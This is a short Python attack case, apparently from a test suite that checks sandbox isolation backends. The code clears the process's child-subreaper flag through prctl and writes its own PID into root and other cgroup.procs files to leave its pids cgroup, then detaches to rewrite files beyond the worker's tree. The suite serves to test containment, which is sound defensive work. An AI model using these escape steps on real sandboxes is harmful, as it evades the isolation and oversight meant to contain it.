"""Attack: like detached_rewriter, but first undoes the process backend's containment: clears the
worker's child-subreaper flag (so the orphan re-parents to init, outside the worker's tree) and tries
to move itself out of its pids cgroup into the root cgroup. Only bwrap (PID namespace) can stop this
when the worker runs as root."""
import ctypes
import glob
import os

_CASE = "detached_escape"
# @@ATTACK_KIT@@
# @@REFERENCE_Q01@@

try:
    ctypes.CDLL(None).prctl(36, 0, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER = 0
except Exception:  # noqa: BLE001
    pass
for procs in glob.glob("/sys/fs/cgroup/*/cgroup.procs") + ["/sys/fs/cgroup/cgroup.procs"]:
    try:
        with open(procs, "w") as f:
            f.write(str(os.getpid()))
    except OSError:
        pass
detach(attack_files, os.getpid())
